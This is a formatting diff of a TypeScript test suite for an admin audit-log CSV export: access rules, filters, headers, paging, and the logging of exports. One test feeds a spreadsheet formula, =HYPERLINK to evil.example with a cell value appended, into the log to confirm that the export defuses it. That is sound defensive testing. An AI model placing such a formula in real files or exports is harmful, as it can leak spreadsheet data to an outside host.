@@ -5,7 +5,8 @@ import { startApp, type TestServer } from '../../testing/start-app.ts';
 import { caller } from '../../testing/trpc-caller.ts';
 import { auditCsv } from './audit-export.ts';
 
-const HEADING = 'id,at,kind,actor,actorId,user,userId,sessionId,reference,reason,statedReason,ipAddress,browser,system,details,sealed';
+const HEADING =
+  'id,at,kind,actor,actorId,user,userId,sessionId,reference,reason,statedReason,ipAddress,browser,system,details,sealed';
 
 let app: TestServer;
 let admin: Browser;
@@ -28,10 +29,13 @@ function parse(csv: string): Record<string, string>[] {
     if (end === '\r\n') lines.push([]);
   }
   const [heading = [], ...rows] = lines.slice(0, -1);
-  return rows.map((row) => Object.fromEntries(heading.map((name, at) => [name, row[at] ?? 'missing'])));
+  return rows.map((row) =>
+    Object.fromEntries(heading.map((name, at) => [name, row[at] ?? 'missing'])),
+  );
 }
 
-const get = (query = '', browser = admin, init?: RequestInit) => browser.request(`/admin/audit.csv${query}`, init);
+const get = (query = '', browser = admin, init?: RequestInit) =>
+  browser.request(`/admin/audit.csv${query}`, init);
 const rows = async (query = '') => parse((await get(query)).body);
 const kinds = async (query = '') => (await rows(query)).map(({ kind }) => kind);
 
@@ -40,20 +44,39 @@ describe('GET /admin/audit.csv', () => {
     const answer = await get();
     expect(answer.status).toBe(200);
     expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8');
-    expect(answer.headers.get('content-disposition')).toMatch(/^attachment; filename="audit-2\d{3}-[\dTZ-]+\.csv"$/);
+    expect(answer.headers.get('content-disposition')).toMatch(
+      /^attachment; filename="audit-2\d{3}-[\dTZ-]+\.csv"$/,
+    );
     expect(answer.headers.get('cache-control')).toBe('no-store');
     expect(answer.body.split('\r\n')[0]?.replaceAll('"', '')).toBe(HEADING);
     const [newest, oldest] = parse(answer.body);
-    expect([newest?.kind, newest?.actor, newest?.userId, newest?.sealed]).toEqual(['session.issued', 'bob', bobId, 'false']);
-    expect(oldest).toMatchObject({ actor: 'admin', at: new Date(app.clock.now()).toISOString(), reason: '', details: '' });
+    expect([newest?.kind, newest?.actor, newest?.userId, newest?.sealed]).toEqual([
+      'session.issued',
+      'bob',
+      bobId,
+      'false',
+    ]);
+    expect(oldest).toMatchObject({
+      actor: 'admin',
+      at: new Date(app.clock.now()).toISOString(),
+      reason: '',
+      details: '',
+    });
   });
 
   it('is refused as everything else in plain HTTP: 401 for nobody, 403 for bob, and nothing is kept of it', async () => {
     for (const accept of ['text/csv', 'text/html,*/*', 'application/json']) {
       const anonymous = await get('', app.browser(), { headers: { accept } });
-      expect([anonymous.status, JSON.parse(anonymous.body).reason]).toEqual([401, 'no_credentials']);
+      expect([anonymous.status, JSON.parse(anonymous.body).reason]).toEqual([
+        401,
+        'no_credentials',
+      ]);
       const user = await get('?text=bob', bob, { headers: { accept } });
-      expect([user.status, JSON.parse(user.body).reason, user.headers.get('content-disposition')]).toEqual([403, 'role_required', null]);
+      expect([
+        user.status,
+        JSON.parse(user.body).reason,
+        user.headers.get('content-disposition'),
+      ]).toEqual([403, 'role_required', null]);
     }
     expect(await app.auditLog.list({ kind: 'audit.exported', limit: 5 })).toEqual([]);
   });
@@ -74,22 +97,43 @@ describe('GET /admin/audit.csv', () => {
 
   it('stands beside the page /admin/audit, which is the web app’s', async () => {
     const accept = { headers: { accept: 'text/html' } };
-    expect((await admin.request('/admin/audit', accept)).headers.get('content-type')).toBe('text/html; charset=utf-8');
-    expect((await get('', admin, accept)).headers.get('content-type')).toBe('text/csv; charset=utf-8');
+    expect((await admin.request('/admin/audit', accept)).headers.get('content-type')).toBe(
+      'text/html; charset=utf-8',
+    );
+    expect((await get('', admin, accept)).headers.get('content-type')).toBe(
+      'text/csv; charset=utf-8',
+    );
     expect((await admin.post('/admin/audit.csv')).status).toBe(404);
   });
 
   it('takes the filters of admin.audit under the same names', async () => {
-    await caller(admin).mutate('admin.setRole', { userId: bobId, role: 'Admin', reason: 'Team lead, since May' });
+    await caller(admin).mutate('admin.setRole', {
+      userId: bobId,
+      role: 'Admin',
+      reason: 'Team lead, since May',
+    });
     const now = app.clock.now();
-    expect(await kinds('?kinds=role.changed,session.revoked')).toEqual(['session.revoked', 'role.changed']);
-    expect(await kinds('?kinds=role.changed&kinds=session.revoked')).toEqual(['session.revoked', 'role.changed']);
+    expect(await kinds('?kinds=role.changed,session.revoked')).toEqual([
+      'session.revoked',
+      'role.changed',
+    ]);
+    expect(await kinds('?kinds=role.changed&kinds=session.revoked')).toEqual([
+      'session.revoked',
+      'role.changed',
+    ]);
     expect(await kinds('?kind=role.changed')).toEqual(['role.changed']);
-    expect(await kinds(`?actor=ADMIN&userId=${bobId}&since=${now}&until=${now + 1}&text=team%20LEAD`)).toEqual(['session.revoked', 'role.changed']);
+    expect(
+      await kinds(`?actor=ADMIN&userId=${bobId}&since=${now}&until=${now + 1}&text=team%20LEAD`),
+    ).toEqual(['session.revoked', 'role.changed']);
     expect(await kinds(`?until=${now}&kind=session.issued`)).toEqual([]);
     expect(await kinds('?text=%25&kind=session.issued')).toEqual([]);
     const [changed] = await rows('?kind=role.changed');
-    expect(changed).toMatchObject({ actor: 'admin', user: 'bob', statedReason: 'Team lead, since May', details: '{"from":"User","to":"Admin"}' });
+    expect(changed).toMatchObject({
+      actor: 'admin',
+      user: 'bob',
+      statedReason: 'Team lead, since May',
+      details: '{"from":"User","to":"Admin"}',
+    });
   });
 
   it.each([
@@ -110,12 +154,17 @@ describe('GET /admin/audit.csv', () => {
     [`?kinds=${'x'.repeat(1_001)}`, /^kinds: /],
   ])('refuses %s: what is misspelt must not come to the whole log', async (query, message) => {
     const answer = await get(query);
-    expect([answer.status, JSON.parse(answer.body).message]).toEqual([400, expect.stringMatching(message)]);
+    expect([answer.status, JSON.parse(answer.body).message]).toEqual([
+      400,
+      expect.stringMatching(message),
+    ]);
     expect(await app.auditLog.list({ kind: 'audit.exported', limit: 5 })).toEqual([]);
   });
 
   it('is an act that is kept, with who did it and the filter, and not in the export itself', async () => {
-    expect(await kinds('?kinds=audit.exported,session.issued&text=admin')).toEqual(['session.issued']);
+    expect(await kinds('?kinds=audit.exported,session.issued&text=admin')).toEqual([
+      'session.issued',
+    ]);
     const adminId = (await app.users.findAccount('admin'))?.id;
     const [event] = await app.auditLog.list({ kind: 'audit.exported', limit: 5 });
     expect(event).toMatchObject({
@@ -128,7 +177,13 @@ describe('GET /admin/audit.csv', () => {
   });
 
   it('runs nothing in a spreadsheet: what people typed is defused, and stays in its cell', async () => {
-    await app.users.create({ id: '-evil', username: '+evil', role: 'User', passwordHash: 'x', createdAt: 1 });
+    await app.users.create({
+      id: '-evil',
+      username: '+evil',
+      role: 'User',
+      passwordHash: 'x',
+      createdAt: 1,
+    });
     const formula = '=HYPERLINK("http://evil.example/?"&A1,"x")';
     await caller(admin).mutate('admin.disableUser', { userId: '-evil', reason: formula });
     const [row] = await rows('?kind=user.disabled');
@@ -137,12 +192,29 @@ describe('GET /admin/audit.csv', () => {
   });
 
   it('gives out an instant that is none as it stands', async () => {
-    await app.auditLog.append([{ kind: 'odd', at: 8.64e15 + 1, actorId: null, userId: null, sessionId: null, ipAddress: null, userAgent: null }]);
+    await app.auditLog.append([
+      {
+        kind: 'odd',
+        at: 8.64e15 + 1,
+        actorId: null,
+        userId: null,
+        sessionId: null,
+        ipAddress: null,
+        userAgent: null,
+      },
+    ]);
     expect((await rows())[0]).toMatchObject({ kind: 'odd', at: '8640000000000001' });
   });
 
   it('is long if need be, and complete', async () => {
-    const event = { kind: 'password.changed', actorId: bobId, userId: bobId, sessionId: null, ipAddress: null, userAgent: null };
+    const event = {
+      kind: 'password.changed',
+      actorId: bobId,
+      userId: bobId,
+      sessionId: null,
+      ipAddress: null,
+      userAgent: null,
+    };
     await app.auditLog.append(Array.from({ length: 1_500 }, (_, at) => ({ ...event, at })));
     const ids = (await rows('?kind=password.changed')).map(({ id }) => Number(id));
     expect([ids.length, new Set(ids).size]).toEqual([1_500, 1_500]);
@@ -156,7 +228,15 @@ describe('GET /admin/audit.csv', () => {
 });
 
 it('the log is read a page at a time, and no further than somebody takes it', async () => {
-  const event = { kind: 'odd', at: 1, actorId: null, userId: null, sessionId: null, ipAddress: null, userAgent: null };
+  const event = {
+    kind: 'odd',
+    at: 1,
+    actorId: null,
+    userId: null,
+    sessionId: null,
+    ipAddress: null,
+    userAgent: null,
+  };
   await app.auditLog.append(Array.from({ length: 1_000 }, () => event));
   const asked: AuditQuery[] = [];
   const counting = {
